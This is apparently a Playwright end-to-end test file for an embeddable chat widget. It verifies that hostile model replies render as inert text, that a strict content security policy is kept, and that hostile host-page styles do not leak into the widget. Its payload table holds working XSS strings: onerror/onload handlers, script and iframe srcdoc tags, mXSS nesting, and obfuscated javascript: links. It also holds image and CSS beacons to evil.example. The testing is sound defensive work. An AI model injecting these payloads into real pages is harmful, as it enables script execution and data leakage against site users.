"""Hostile replies, strict policies and rude host pages, in a real Chromium."""

from __future__ import annotations

import pytest
from playwright.sync_api import Page, expect

from tests.e2e.widget_page import Site, ask, expect_answered, open_chat, settle

pytestmark = pytest.mark.browser

STRICT = (
    "default-src 'self'; script-src 'nonce-n1'; connect-src {url}; "
    "require-trusted-types-for 'script'; trusted-types 'none'"
)
PAYLOADS = {
    "a12_markup": (
        "<img src=x onerror=pwned=1><svg onload=pwned=1></svg><script>pwned=1</script>"
        '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>'
        "<math><mtext><table><mglyph><style><img src=x onerror=pwned=1>"
    ),
    "a13_links": (
        "[a](javascript:pwned=1) [b](JaVa\tScript:pwned=1) [c](&#106;avascript:pwned=1) "
        "[d](data:text/html,<script>pwned=1</script>) [e](vbscript:x) [f](//evil.example/f) "
        "[g](\\\\evil.example/g) <javascript:pwned=1> [ok](https://ok.example/)"
    ),
    "a14_images": (
        "![a](https://evil.example/?q=S) ![b][ref] <picture><source srcset=https://evil.example/p>"
        "</picture> <style>*{background:url(https://evil.example/c)}</style> "
        "<svg><image href=https://evil.example/s></svg>\n\n[ref]: https://evil.example/r?q=S"
    ),
}


@pytest.mark.parametrize("name", PAYLOADS)
def test_hostile_replies_stay_text(site: Site, page: Page, name: str) -> None:
    """Cases A12, A13 and A14."""
    site.state.payload = PAYLOADS[name]
    requests: list[str] = []
    open_chat(page, site.host())
    page.on("request", lambda sent: requests.append(sent.url))
    ask(page, "payload")
    expect_answered(page)
    page.wait_for_timeout(300)
    assert page.evaluate("window.pwned") is None
    assert [url for url in requests if not url.startswith(site.url)] == []
    found = page.evaluate(
        """() => {
          const root = document.querySelector('parlance-chat').shadowRoot;
          const all = [...root.querySelectorAll('.prose *')];
          const names = all.flatMap(node => [...node.attributes]).map(item => item.name);
          const links = all.filter(node => node.localName === 'a');
          return {
            tags: [...new Set(all.map(node => node.localName))],
            handlers: names.filter(name => /^on|^style$|^src/.test(name)).length,
            links: links.map(node => node.getAttribute('href')),
          };
        }"""
    )
    assert set(found["tags"]) <= {"p", "a", "em", "strong", "code"}
    assert found["handlers"] == 0
    assert all(link.startswith("https://") for link in found["links"])


STRANGE_CUTS = "".join(PAYLOADS.values()) + " **bold** `code`\n\n- one\n- two"


def test_a17_a_reply_cut_anywhere_ends_as_the_same_nodes(site: Site, page: Page) -> None:
    site.state.payload = STRANGE_CUTS
    open_chat(page, site.host())
    ask(page, "payload")
    expect_answered(page)
    streamed = page.evaluate(PROSE)
    page.reload()
    expect_answered(page)
    assert page.evaluate(PROSE) == streamed


PROSE = "document.querySelector('parlance-chat').shadowRoot.querySelector('.prose').innerHTML"


def test_a19_a_strict_policy_with_trusted_types_is_kept(site: Site, page: Page) -> None:
    open_chat(page, site.host(csp=STRICT))
    ask(page, "Can I return a bicycle?")
    expect(page.locator(".mark")).to_have_count(2)
    styled = page.evaluate(
        "document.querySelector('parlance-chat').shadowRoot"
        ".querySelectorAll('[style], style').length"
    )
    assert styled == 0
    settle(page)
    box = page.locator(".panel").bounding_box()
    assert box is not None and box["width"] == 400


def test_a20_hostile_page_styles_do_not_reach_the_widget(site: Site, page: Page) -> None:
    head = "<style nonce=n1>*{all:unset!important}parlance-chat{display:none!important}</style>"
    page.goto(site.host(head=head))
    page.locator(".launcher").click()
    settle(page)
    box = page.locator(".panel").bounding_box()
    assert box is not None and (box["width"], box["height"]) == (400, 640)
